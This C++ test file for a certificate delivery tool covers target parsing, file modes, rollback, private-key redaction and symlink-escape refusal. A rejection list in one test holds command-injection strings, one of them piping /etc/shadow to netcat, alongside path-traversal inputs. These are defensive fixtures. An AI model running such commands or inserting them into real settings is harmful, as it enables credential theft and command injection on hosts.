// The `file` delivery module on the real file system (temp dirs): the target parser, delivery
// with exact bytes and modes, hash-skip, per-run backups and rollback, unwritable destinations,
// and post commands that fail or hang.
#include <gtest/gtest.h>
#include <openssl/evp.h>
#include <sys/stat.h>
#include <unistd.h>

#include <boost/asio/thread_pool.hpp>
#include <boost/json.hpp>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "certfleet/delivery/file.hpp"
#include "certfleet/delivery/redact.hpp"
#include "certfleet/delivery/ssh_target.hpp"
#include "certs.hpp"
#include "process.hpp"
#include "run_sync.hpp"
#include "temp_dir.hpp"

using namespace certfleet::delivery;
namespace fs = std::filesystem;
using std::chrono::milliseconds;

namespace {

std::string slurp(const fs::path& p) {
  std::ifstream f(p, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}
void spit(const fs::path& p, const std::string& s) {
  std::ofstream f(p, std::ios::binary | std::ios::trunc);
  f << s;
}
unsigned mode_of(const fs::path& p) {
  struct stat st{};
  ::stat(p.c_str(), &st);
  return st.st_mode & 07777;
}

cert_bundle make_bundle(const fs::path& dir, const std::string& name) {
  fs::create_directories(dir);
  auto c = (dir / (name + ".crt")).string(), k = (dir / (name + ".key")).string();
  auto [rc, out] = testbed::run_command({"/usr/bin/openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                                         "ec_paramgen_curve:P-256", "-nodes", "-keyout", k, "-out", c, "-days", "2",
                                         "-subj", "/CN=" + name + ".test"});
  if (rc != 0) throw std::runtime_error("openssl req failed: " + out);
  return {slurp(c), slurp(k), "chain of " + name + "\n"};
}

}  // namespace

TEST(file_target_parse, accepts_a_full_spec) {
  auto v = boost::json::parse(R"({"cert_path":"/etc/ssl/a.crt","key_path":"/etc/ssl/private/a.key",
      "chain_path":"/etc/ssl/chain.pem","cert_mode":"0640","key_mode":"600","post_command":"systemctl reload nginx"})");
  auto t = parse_file_target(v);
  ASSERT_TRUE(t) << t.error().field << ": " << t.error().message;
  EXPECT_EQ(t->cert_path, "/etc/ssl/a.crt");
  EXPECT_EQ(t->key_path, "/etc/ssl/private/a.key");
  EXPECT_EQ(t->chain_path, "/etc/ssl/chain.pem");
  EXPECT_EQ(t->cert_mode, 0640u);
  EXPECT_EQ(t->key_mode, 0600u);
  EXPECT_EQ(t->post_command, "systemctl reload nginx");
  auto minimal = parse_file_target(boost::json::parse(R"({"cert_path":"/a/c.pem","key_path":"/a/k.pem"})"));
  ASSERT_TRUE(minimal);
  EXPECT_EQ(minimal->cert_mode, 0644u);
  EXPECT_EQ(minimal->key_mode, 0600u);
  EXPECT_TRUE(minimal->chain_path.empty());
}

TEST(file_target_parse, errors_name_the_field) {
  struct row {
    const char* json;
    const char* field;
  };
  for (auto [json, field] : {
           row{R"([])", "file"},
           row{R"({"key_path":"/a/k"})", "file.cert_path"},
           row{R"({"cert_path":"/a/c"})", "file.key_path"},
           row{R"({"cert_path":"a/c","key_path":"/a/k"})", "file.cert_path"},
           row{R"({"cert_path":"/a/../c","key_path":"/a/k"})", "file.cert_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/./k"})", "file.key_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","chain_path":"rel"})", "file.chain_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/c"})", "file.key_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","key_mode":"0644"})", "file.key_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"rwx"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","post_command":5})", "file.post_command"},
           row{R"({"cert_path":7,"key_path":"/a/k"})", "file.cert_path"},
       }) {
    auto t = parse_file_target(boost::json::parse(json));
    ASSERT_FALSE(t) << json;
    EXPECT_EQ(t.error().field, field) << json;
  }
}

// Issue 28, file target edges: the key over the certificate after normalising the paths, a
// blank post command, modes with setuid/setgid/sticky or world-writable bits: refused, naming
// the field. The mode rule holds for ssh targets too.
TEST(file_target_parse, edges_are_refused_naming_the_field) {
  struct row {
    const char* json;
    const char* field;
  };
  for (auto [json, field] : {
           row{R"({"cert_path":"/a/c","key_path":"/a//c"})", "file.key_path"},
           row{R"({"cert_path":"//a/c","key_path":"/a/c"})", "file.key_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","chain_path":"/a///k"})", "file.chain_path"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","post_command":""})", "file.post_command"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","post_command":"   "})", "file.post_command"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","post_command":" \t "})", "file.post_command"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"4644"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"2644"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"1644"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"0666"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"0646"})", "file.cert_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","key_mode":"4600"})", "file.key_mode"},
           row{R"({"cert_path":"/a/c","key_path":"/a/k","key_mode":"1600"})", "file.key_mode"},
       }) {
    auto t = parse_file_target(boost::json::parse(json));
    ASSERT_FALSE(t) << json;
    EXPECT_EQ(t.error().field, field) << json << ": " << t.error().message;
  }
  // The message says what was found.
  auto m = parse_file_target(boost::json::parse(R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"4644"})"));
  ASSERT_FALSE(m);
  EXPECT_NE(m.error().message.find("4644"), std::string::npos) << m.error().message;
  EXPECT_NE(m.error().message.find("setuid"), std::string::npos) << m.error().message;
  // Still accepted: group-writable and ordinary modes, a real command, no command at all.
  for (const char* ok : {R"({"cert_path":"/a/c","key_path":"/a/k","cert_mode":"0664","key_mode":"0640"})",
                         R"({"cert_path":"/a/c","key_path":"/a/k","post_command":" /bin/true "})",
                         R"({"cert_path":"/a/c","key_path":"/a/k","post_command":null})"}) {
    auto t = parse_file_target(boost::json::parse(ok));
    EXPECT_TRUE(t) << ok << ": " << (t ? "" : t.error().message);
  }
  // A target built in code gets the same checks.
  file_target t;
  t.cert_path = "/srv/x/cert.pem";
  t.key_path = "/srv//x/cert.pem";
  EXPECT_EQ(check_file_target(t).error().field, "file.key_path");
  // ssh targets: the same mode rule, naming ssh.* fields.
  auto ssh = [](const std::string& extra) {
    return boost::json::parse(R"({"host":"h.example","user":"u","host_key":"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",)"
                              R"("cert_path":"/a/c","key_path":"/a/k")" + extra + "}");
  };
  EXPECT_TRUE(parse_ssh_target(ssh("")));
  for (auto [extra, field] : {std::pair{R"(,"cert_mode":"4644")", "ssh.cert_mode"}, std::pair{R"(,"cert_mode":"0666")", "ssh.cert_mode"},
                              std::pair{R"(,"key_mode":"2600")", "ssh.key_mode"}, std::pair{R"(,"key_path":"/a//c")", "ssh.key_path"}}) {
    auto r = parse_ssh_target(ssh(extra));
    ASSERT_FALSE(r) << extra;
    EXPECT_EQ(r.error().field, field) << extra << ": " << r.error().message;
  }
}

// Issue 28: the redactor (pure). PEM private-key blocks of every kind, a block cut off at either
// end, and the delivered key's bytes however they are printed.
TEST(redact_command_output, removes_private_keys_and_the_delivered_key_bytes) {
  auto ec = testbed::make_certificate({.common_name = "r.example"});
  auto rsa = testbed::make_certificate({.common_name = "r.example", .key_type = "rsa:2048"});
  auto body = [](const std::string& pem) {
    std::string b;
    std::istringstream in(pem);
    for (std::string l; std::getline(in, l);)
      if (l.rfind("-----", 0) != 0) b += l + "\n";
    return b;
  };
  const std::string secret_line = body(ec.key_pem).substr(0, 64);
  // Every labelled kind, wherever it is in the text.
  for (const char* label : {"PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "RSA PRIVATE KEY", "EC PRIVATE KEY",
                            "OPENSSH PRIVATE KEY", "DSA PRIVATE KEY"}) {
    std::string text = std::string("reloading\n-----BEGIN ") + label + "-----\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldY\n-----END " +
                       label + "-----\ndone\n";
    auto out = redact_command_output(text);
    EXPECT_EQ(out, "reloading\n[private key redacted]\ndone\n") << label;
  }
  // Cut off at the end (no END) and at the start (END without BEGIN, or only its tail).
  EXPECT_EQ(redact_command_output("x\n-----BEGIN PRIVATE KEY-----\nQUJDREVG\nR0hJ"), "x\n[private key redacted]");
  EXPECT_EQ(redact_command_output("QUJDREVG\n-----END RSA PRIVATE KEY-----\nok"), "[private key redacted]\nok");
  EXPECT_EQ(redact_command_output("E KEY-----\nok"), "E KEY-----\nok");  // no key byte in it
  EXPECT_EQ(redact_command_output("IVATE KEY-----\nok"), "IVATE KEY-----\nok");
  EXPECT_EQ(redact_command_output("RSA PRIVATE KEY-----\nok"), "[private key redacted]\nok");
  // A certificate is not a key: it stays a certificate (only the few characters that encode the
  // public key it shares with the key may be blanked); ordinary output stays as it was.
  EXPECT_EQ(redact_command_output(ec.cert_pem), ec.cert_pem);
  auto cert_out = redact_command_output(ec.cert_pem, ec.key_pem);
  EXPECT_EQ(cert_out.find("[private key redacted]"), std::string::npos);
  EXPECT_EQ(cert_out.rfind("-----BEGIN CERTIFICATE-----", 0), 0u) << cert_out;
  EXPECT_GT(cert_out.size(), ec.cert_pem.size() - 100) << cert_out;
  EXPECT_EQ(redact_command_output("nginx: configuration file /etc/nginx/nginx.conf test is successful\n", ec.key_pem),
            "nginx: configuration file /etc/nginx/nginx.conf test is successful\n");
  // The delivered key's body, without markers: whole, one line, a line cut by truncation,
  // re-wrapped at 76 columns, and its DER in binary.
  for (const auto* key : {&ec.key_pem, &rsa.key_pem}) {
    const std::string b = body(*key);
    std::string joined;
    for (char c : b)
      if (c != '\n') joined += c;
    std::string wrapped;
    for (std::size_t i = 0; i < joined.size(); i += 76) wrapped += joined.substr(i, 76) + "\n";
    std::string der(joined.size(), '\0');
    int n = EVP_DecodeBlock(reinterpret_cast<unsigned char*>(der.data()), reinterpret_cast<const unsigned char*>(joined.data()),
                            static_cast<int>(joined.size()));
    ASSERT_GT(n, 0);
    der.resize(static_cast<std::size_t>(n) - static_cast<std::size_t>(std::count(joined.begin(), joined.end(), '=')));
    auto binary = redact_command_output("bin:" + der + ":end", *key);
    EXPECT_EQ(binary, "bin:[redacted]:end");
    for (const std::string& text : {"out: " + b, b.substr(5), b.substr(0, 40) + "\n", wrapped, "k=" + joined + ";"}) {
      auto out = redact_command_output(text, *key);
      for (std::size_t i = 0; i + 16 <= joined.size(); i += 8)
        EXPECT_EQ(out.find(joined.substr(i, 16)), std::string::npos) << text << "\n->\n" << out;
      EXPECT_NE(out.find("[redacted]"), std::string::npos) << out;
      EXPECT_EQ(redact_command_output(out, *key), out);  // idempotent
    }
  }
  EXPECT_EQ(redact_command_output("x " + secret_line + " y", ec.key_pem), "x [redacted] y");
  // Several keys: the delivered one and the one a restore put back.
  const std::string_view both[] = {ec.key_pem, rsa.key_pem};
  auto out = redact_command_output(body(ec.key_pem) + body(rsa.key_pem), both);
  EXPECT_EQ(out.find(body(rsa.key_pem).substr(0, 32)), std::string::npos) << out;
  EXPECT_EQ(out.find(body(ec.key_pem).substr(0, 32)), std::string::npos) << out;
}

class file_delivery : public ::testing::Test {
 protected:
  testbed::temp_dir dir{"certfleet-file"};
  boost::asio::thread_pool pool{2};
  cert_bundle a = make_bundle(dir.path() / "certs", "a");
  cert_bundle b = make_bundle(dir.path() / "certs", "b");
  // The file_target_base_dirs a delivery is held to ("/sys": the root-only unwritable case).
  std::vector<std::string> bases{dir.path().string(), "/sys"};

  ~file_delivery() override { pool.join(); }

  file_target target(const std::string& name = "dest") {
    auto d = dir.path() / name;
    fs::create_directories(d);
    file_target t;
    t.cert_path = (d / "cert.pem").string();
    t.key_path = (d / "key.pem").string();
    t.chain_path = (d / "chain.pem").string();
    return t;
  }
  delivery_result deliver(const file_target& t, const cert_bundle& bundle, const std::string& run) {
    auto r = testbed::run_sync(deliver_file(t, bundle, run, bases, pool));
    std::cerr << "  -> " << delivery_status_name(r.status) << " [" << error_class_name(r.cls) << "] " << r.error << "\n";
    return r;
  }
  delivery_result rollback(const file_target& t, const std::string& run) {
    auto r = testbed::run_sync(rollback_file(t, run, bases, pool));
    std::cerr << "  <- " << delivery_status_name(r.status) << " [" << error_class_name(r.cls) << "] " << r.error << "\n";
    return r;
  }
  void expect_holds(const file_target& t, const cert_bundle& bundle) {
    EXPECT_EQ(slurp(t.cert_path), bundle.cert_pem);
    EXPECT_EQ(slurp(t.key_path), bundle.key_pem);
    EXPECT_EQ(slurp(t.chain_path), bundle.chain_pem);
  }
};

TEST_F(file_delivery, writes_exact_bytes_and_modes) {
  auto t = target();
  auto r = deliver(t, a, "run-1");
  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
  EXPECT_EQ(r.fingerprint_sha256.size(), 64u);
  expect_holds(t, a);
  EXPECT_EQ(mode_of(t.cert_path), 0644u);
  EXPECT_EQ(mode_of(t.key_path), 0600u);
  EXPECT_EQ(mode_of(t.chain_path), 0644u);
  // No temp files left behind; the pre-run state (nothing) is recorded as absent markers.
  for (const auto& e : fs::directory_iterator(fs::path(t.cert_path).parent_path()))
    EXPECT_EQ(e.path().filename().string().find(".tmp"), std::string::npos) << e.path();
  EXPECT_TRUE(fs::exists(file_backup_path(t.key_path, "run-1") + ".absent"));
  // Custom modes.
  auto t2 = target("custom");
  t2.cert_mode = 0640;
  t2.key_mode = 0400;
  ASSERT_TRUE(deliver(t2, a, "run-1").ok());
  EXPECT_EQ(mode_of(t2.cert_path), 0640u);
  EXPECT_EQ(mode_of(t2.key_path), 0400u);
}

TEST_F(file_delivery, hash_skip_touches_nothing) {
  auto t = target();
  ASSERT_TRUE(deliver(t, a, "run-1").ok());
  auto r = deliver(t, a, "run-2");
  EXPECT_EQ(r.status, delivery_status::skipped_by_hash);
  EXPECT_TRUE(r.ok());
  EXPECT_FALSE(fs::exists(file_backup_path(t.cert_path, "run-2")));
  EXPECT_FALSE(fs::exists(file_backup_path(t.cert_path, "run-2") + ".absent"));
  // One differing file is enough to deliver again.
  spit(t.chain_path, "changed");
  EXPECT_EQ(deliver(t, a, "run-3").status, delivery_status::succeeded);
  expect_holds(t, a);
}

TEST_F(file_delivery, backup_and_rollback_restore_exact_bytes) {
  auto t = target();
  ASSERT_TRUE(deliver(t, a, "run-1").ok());
  ASSERT_EQ(deliver(t, b, "run-2").status, delivery_status::succeeded);
  expect_holds(t, b);
  // The backup holds run-1's files, with the key still private.
  EXPECT_EQ(slurp(file_backup_path(t.key_path, "run-2")), a.key_pem);
  EXPECT_EQ(mode_of(file_backup_path(t.key_path, "run-2")), 0600u);
  // A retried run-2 (with other bytes) keeps the pre-run backup, not its own files.
  auto c = make_bundle(dir.path() / "certs", "c");
  ASSERT_TRUE(deliver(t, c, "run-2").ok());
  EXPECT_EQ(slurp(file_backup_path(t.cert_path, "run-2")), a.cert_pem);

  auto r = rollback(t, "run-2");
  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
  EXPECT_TRUE(r.restored);
  expect_holds(t, a);
  EXPECT_EQ(mode_of(t.key_path), 0600u);
  auto a_fp = deliver(t, a, "run-probe");  // hash-skip: reports a's fingerprint
  EXPECT_EQ(a_fp.status, delivery_status::skipped_by_hash);
  EXPECT_EQ(r.fingerprint_sha256, a_fp.fingerprint_sha256);

  // Rolling back run-1 returns to "nothing there".
  auto r1 = rollback(t, "run-1");
  ASSERT_EQ(r1.status, delivery_status::succeeded) << r1.error;
  EXPECT_FALSE(fs::exists(t.cert_path));
  EXPECT_FALSE(fs::exists(t.key_path));
  EXPECT_FALSE(fs::exists(t.chain_path));
}

TEST_F(file_delivery, rollback_without_backup_is_io_permanent) {
  auto t = target();
  auto r = rollback(t, "never-ran");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::io_permanent);
}

TEST_F(file_delivery, unwritable_destination_is_io_permanent) {
  file_target t;
  if (::geteuid() == 0) {
    // root writes through directory modes (CAP_DAC_OVERRIDE); sysfs refuses new files to anyone.
    t.cert_path = "/sys/certfleet-test-cert.pem";
    t.key_path = "/sys/certfleet-test-key.pem";
  } else {
    auto d = dir.path() / "readonly";
    fs::create_directories(d);
    fs::permissions(d, fs::perms::owner_read | fs::perms::owner_exec);
    t.cert_path = (d / "cert.pem").string();
    t.key_path = (d / "key.pem").string();
  }
  auto r = deliver(t, a, "run-1");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::io_permanent);
  EXPECT_FALSE(retryable(r.cls));
  EXPECT_NE(r.error.find("ermission denied"), std::string::npos) << r.error;
  if (::geteuid() != 0) fs::permissions(dir.path() / "readonly", fs::perms::owner_all);
}

TEST_F(file_delivery, missing_directory_is_io_permanent) {
  file_target t;
  t.cert_path = (dir.path() / "no-such-dir" / "cert.pem").string();
  t.key_path = (dir.path() / "no-such-dir" / "key.pem").string();
  auto r = deliver(t, a, "run-1");
  EXPECT_EQ(r.cls, error_class::io_permanent);
}

TEST_F(file_delivery, post_command_runs_with_paths_in_its_environment) {
  auto t = target();
  auto out = dir.file("post.out");
  // No shell unless asked for by name: here one is, to expand the variables.
  t.post_command = "/bin/sh -c 'echo \"$CERTFLEET_CERT_PATH $CERTFLEET_RUN_ID\" > " + out + "; cat \"$CERTFLEET_CERT_PATH\" >/dev/null'";
  auto r = deliver(t, a, "run-1");
  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
  EXPECT_EQ(slurp(out), t.cert_path + " run-1\n");
}

TEST_F(file_delivery, post_command_failure_is_io_transient_and_restores) {
  auto t = target();
  ASSERT_TRUE(deliver(t, a, "run-1").ok());
  t.post_command = "/bin/sh -c 'echo reload failed >&2; exit 1'";
  auto r = deliver(t, b, "run-2");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::io_transient);
  EXPECT_EQ(r.phase, "post_command");
  EXPECT_TRUE(r.restored);
  EXPECT_NE(r.error.find("exited 1"), std::string::npos) << r.error;
  EXPECT_NE(r.remote_stderr.find("reload failed"), std::string::npos) << r.remote_stderr;
  expect_holds(t, a);  // the previous files are back
}

TEST_F(file_delivery, post_command_timeout_kills_it) {
  auto t = target();
  t.post_command = "sleep 30";  // a bare name: found in the fixed PATH
  t.post_command_timeout = milliseconds(300);
  auto started = std::chrono::steady_clock::now();
  auto r = deliver(t, a, "run-1");
  auto took = std::chrono::steady_clock::now() - started;
  EXPECT_EQ(r.cls, error_class::io_transient);
  EXPECT_NE(r.error.find("did not finish"), std::string::npos) << r.error;
  // The restore after the failure runs the (still hanging) command once more: two timeouts.
  EXPECT_LT(took, milliseconds(5000));
  // Rolled back to "nothing there".
  EXPECT_FALSE(fs::exists(t.cert_path));
}

TEST_F(file_delivery, bad_input_is_validation_and_writes_nothing) {
  auto t = target();
  auto mismatched = a;
  mismatched.key_pem = b.key_pem;
  auto r = deliver(t, mismatched, "run-1");
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_FALSE(fs::exists(t.cert_path));
  EXPECT_EQ(deliver(t, a, "../evil").cls, error_class::validation);
  auto rel = t;
  rel.cert_path = "relative/cert.pem";
  EXPECT_EQ(deliver(rel, a, "run-1").cls, error_class::validation);
  EXPECT_EQ(rollback(rel, "run-1").cls, error_class::validation);
}

TEST_F(file_delivery, replaces_atomically) {
  auto t = target();
  ASSERT_TRUE(deliver(t, a, "run-1").ok());
  // A hard link to the old key still shows the old bytes: the file was replaced by rename,
  // never rewritten in place (a reader never sees a half-written key).
  auto link = dir.file("old-key-link");
  fs::create_hard_link(t.key_path, link);
  ASSERT_TRUE(deliver(t, b, "run-2").ok());
  EXPECT_EQ(slurp(link), a.key_pem);
  EXPECT_EQ(slurp(t.key_path), b.key_pem);
}

// The post command is executed directly: shell syntax inside quotes reaches the program as
// plain bytes, and outside quotes it is refused when the target is parsed.
TEST_F(file_delivery, post_command_runs_without_a_shell) {
  auto t = target();
  const std::string d = fs::path(t.cert_path).parent_path().string();
  // With /bin/sh -c, "$(echo c)" would become "c"; `'a;touch b'` is one literal name either way.
  t.post_command = "/usr/bin/touch '" + d + "/a;touch b' \"" + d + "/$(echo c)\" " + d + "/plain\\ name";
  ASSERT_TRUE(check_file_target(t)) << check_file_target(t).error().message;
  auto r = deliver(t, a, "run-1");
  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
  EXPECT_TRUE(fs::exists(d + "/a;touch b"));
  EXPECT_TRUE(fs::exists(d + "/$(echo c)"));
  EXPECT_TRUE(fs::exists(d + "/plain name"));
  EXPECT_FALSE(fs::exists(d + "/c"));
  EXPECT_FALSE(fs::exists(d + "/a"));

  auto words = split_post_command(R"(/bin/echo 'x y' "q\"uote" back\ slash)");
  ASSERT_TRUE(words) << words.error().message;
  EXPECT_EQ(*words, (std::vector<std::string>{"/bin/echo", "x y", "q\"uote", "back slash"}));
  for (const char* cmd : {"systemctl reload nginx; id", "nginx -t && systemctl reload nginx", "cat /etc/shadow | nc x 1",
                          "echo $(id)", "echo `id`", "echo > /tmp/x", "echo $HOME", "echo 'open", "./relative.sh",
                          "echo a\nid"}) {
    auto parsed = parse_file_target(boost::json::value{{"cert_path", "/a/c"}, {"key_path", "/a/k"}, {"post_command", cmd}});
    ASSERT_FALSE(parsed) << cmd;
    EXPECT_EQ(parsed.error().field, "file.post_command") << cmd;
  }
}

TEST_F(file_delivery, a_missing_program_is_a_validation_failure) {
  auto t = target();
  t.post_command = "certfleet-no-such-program --reload";
  auto r = deliver(t, a, "run-1");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_NE(r.error.find("not in PATH"), std::string::npos) << r.error;
}

// A result is readable by the whole project: a chatty failing command leaves only a bounded tail.
TEST_F(file_delivery, post_command_output_in_the_result_is_bounded) {
  auto t = target();
  t.post_command = "/bin/sh -c 'head -c 100000 /dev/zero | tr \"\\0\" x; echo END; exit 3'";
  auto r = deliver(t, a, "run-1");
  ASSERT_EQ(r.status, delivery_status::failed);
  EXPECT_NE(r.error.find("END"), std::string::npos) << r.error.substr(0, 200);
  // Two messages (the failure, then the same command after the restore), each with at most
  // 512 bytes of output, instead of 100 kB.
  EXPECT_LT(r.error.size(), 1400u);
  EXPECT_LE(r.remote_stderr.size(), 2000u);
}

// Paths must lie under file_target_base_dirs: checked again at delivery, so a target stored
// before the setting changed is refused, and nothing is written.
TEST_F(file_delivery, paths_outside_the_base_dirs_are_refused_at_delivery) {
  auto t = target();
  bases = {(dir.path() / "elsewhere").string()};
  fs::create_directories(bases[0]);
  auto r = deliver(t, a, "run-1");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_NE(r.error.find("file.cert_path"), std::string::npos) << r.error;
  EXPECT_FALSE(fs::exists(t.cert_path));
  EXPECT_EQ(rollback(t, "run-1").cls, error_class::validation);
  bases.clear();  // the setting emptied: every file target refused
  r = deliver(t, a, "run-1");
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_NE(r.error.find("file_target_base_dirs"), std::string::npos) << r.error;
  EXPECT_FALSE(fs::exists(t.cert_path));

  // Lexically: a sibling with the same prefix is not "under", and ".." never gets past the parser.
  file_target sib;
  sib.cert_path = dir.path().string() + "-sibling/c.pem";
  sib.key_path = dir.path().string() + "/k.pem";
  auto e = check_file_target_paths(sib, {dir.path().string()});
  ASSERT_FALSE(e);
  EXPECT_EQ(e.error().field, "file.cert_path");
  sib.cert_path = dir.path().string() + "/x/../../etc/c.pem";
  e = check_file_target_paths(sib, {dir.path().string()});
  ASSERT_FALSE(e);
  EXPECT_EQ(e.error().field, "file.cert_path");
}

// A directory under a base dir that is a symbolic link to somewhere else: resolved at delivery
// and refused; the link's destination is untouched. A destination that is a link is refused too.
TEST_F(file_delivery, symbolic_link_escapes_are_refused_at_delivery) {
  auto outside = dir.path() / "outside";
  fs::create_directories(outside);
  auto base = dir.path() / "base";
  fs::create_directories(base);
  bases = {base.string()};
  fs::create_directory_symlink(outside, base / "link");
  file_target t;
  t.cert_path = (base / "link" / "cert.pem").string();
  t.key_path = (base / "link" / "key.pem").string();
  ASSERT_TRUE(check_file_target_paths(t, bases));  // lexically fine: only resolution shows it
  auto r = deliver(t, a, "run-1");
  EXPECT_EQ(r.status, delivery_status::failed);
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_NE(r.error.find("outside file_target_base_dirs"), std::string::npos) << r.error;
  EXPECT_TRUE(fs::is_empty(outside));

  // The final component a link to a file outside: refused, the outside file keeps its bytes.
  fs::create_directories(base / "real");
  spit(outside / "victim", "precious");
  fs::create_symlink(outside / "victim", base / "real" / "cert.pem");
  file_target t2;
  t2.cert_path = (base / "real" / "cert.pem").string();
  t2.key_path = (base / "real" / "key.pem").string();
  r = deliver(t2, a, "run-1");
  EXPECT_EQ(r.cls, error_class::validation);
  EXPECT_NE(r.error.find("symbolic link"), std::string::npos) << r.error;
  EXPECT_EQ(slurp(outside / "victim"), "precious");
  EXPECT_FALSE(fs::exists(base / "real" / "key.pem"));

  // A link inside the base dirs to another place inside them is fine (resolved and re-checked).
  fs::create_directories(base / "target-dir");
  fs::create_directory_symlink(base / "target-dir", base / "alias");
  file_target t3;
  t3.cert_path = (base / "alias" / "cert.pem").string();
  t3.key_path = (base / "alias" / "key.pem").string();
  r = deliver(t3, a, "run-1");
  ASSERT_EQ(r.status, delivery_status::succeeded) << r.error;
  EXPECT_EQ(slurp(base / "target-dir" / "cert.pem"), a.cert_pem);
}
